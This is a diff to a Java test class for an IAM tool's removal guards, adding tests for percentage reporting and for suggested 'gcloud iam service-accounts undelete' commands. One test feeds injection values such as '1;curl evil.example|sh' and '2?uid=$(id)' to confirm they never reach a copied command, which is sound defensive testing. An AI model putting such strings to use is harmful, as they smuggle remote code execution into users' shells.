@@ -16,6 +16,7 @@ import dev.kleos.iam.model.RandomIam;
 import dev.kleos.iam.model.Resource;
 import dev.kleos.iam.model.ServiceAccount;
 import java.util.ArrayList;
+import java.util.Arrays;
 import java.util.LinkedHashSet;
 import java.util.List;
 import java.util.Set;
@@ -55,6 +56,13 @@ class RemovalGuardsTest {
                 SERVICE,
                 "would remove 5 of the 12 grants of managed roles, 42%: more than 25%",
                 "if that is meant, add --max-removals 5"));
+  }
+
+  @Test
+  void theFigures_neverLookAsIfTheyWereWithinTheBound() {
+    assertThat(refusals(users(67), users(17), Overrides.NONE))
+        .extracting(Refusal::evidence)
+        .containsExactly("would remove 17 of the 67 grants of managed roles, 26%: more than 25%");
   }
 
   @Test
@@ -224,20 +232,51 @@ class RemovalGuardsTest {
 
   @Test
   void anAccount_isNotCreatedOverTheTraceOfItsName_unlessItIsSaid() {
-    var trace = grant(INVOKER, "deleted:" + ACCOUNT.principal() + "?uid=123456789012345678901");
-    var lost =
-        new Finding.Lost(ACCOUNT.principal(), false, List.of(new Finding.Trace(SERVICE, trace)));
-    var create = new Change.CreateServiceAccount(ServiceAccount.desired(ACCOUNT, null, null));
-    var changes = new ChangeSet(List.of(create), List.of(), List.of(), List.of(lost), List.of());
+    var changes = creationOver("123456789012345678901");
 
     var refusals = Guard.check(plan(SERVICE), changes, safety(Overrides.NONE, null));
     assertThat(refusals).hasSize(1);
     assertThat(refusals.getFirst().override())
-        .contains(
-            "gcloud iam service-accounts undelete 123456789012345678901 --project kleos-demo",
-            "--allow recreate");
+        .isEqualTo(
+            "to have it back with its grants, up to 30 days after its deletion: gcloud iam"
+                + " service-accounts undelete 123456789012345678901 --project kleos-demo; after"
+                + " that, or if a new one is meant, add --allow recreate");
     assertThat(Guard.check(plan(SERVICE), changes, safety(consent(Consent.RECREATE), null)))
         .isEmpty();
+  }
+
+  @Test
+  void anAccountThatWasDeletedMoreThanOnce_isOfferedUnderEachOfItsIds() {
+    assertThat(Guard.check(plan(SERVICE), creationOver("12", "34"), safety(Overrides.NONE, null)))
+        .extracting(Refusal::override)
+        .containsExactly(
+            "to have it back with its grants, up to 30 days after its deletion: gcloud iam"
+                + " service-accounts undelete 12 --project kleos-demo, or gcloud iam"
+                + " service-accounts undelete 34 --project kleos-demo; after that, or if a new one"
+                + " is meant, add --allow recreate");
+  }
+
+  /// People copy the command, and Google's answer decides what stands in it.
+  @Test
+  void whatCanBeNoUniqueId_isNoPartOfACommand() {
+    var changes = creationOver("1;curl evil.example|sh", "2?uid=$(id)", "");
+
+    assertThat(Guard.check(plan(SERVICE), changes, safety(Overrides.NONE, null)))
+        .extracting(Refusal::override)
+        .containsExactly(
+            "to have it back with its grants, up to 30 days after its deletion: undelete it by its"
+                + " unique id; after that, or if a new one is meant, add --allow recreate");
+  }
+
+  private static ChangeSet creationOver(String... uniqueIds) {
+    var traces =
+        Arrays.stream(uniqueIds)
+            .map(id -> grant(INVOKER, "deleted:" + ACCOUNT.principal() + "?uid=" + id))
+            .map(trace -> new Finding.Trace(SERVICE, trace))
+            .toList();
+    var lost = new Finding.Lost(ACCOUNT.principal(), false, traces);
+    var create = new Change.CreateServiceAccount(ServiceAccount.desired(ACCOUNT, null, null));
+    return new ChangeSet(List.of(create), List.of(), List.of(), List.of(lost), List.of());
   }
 
   private static List<Grant> users(int number) {
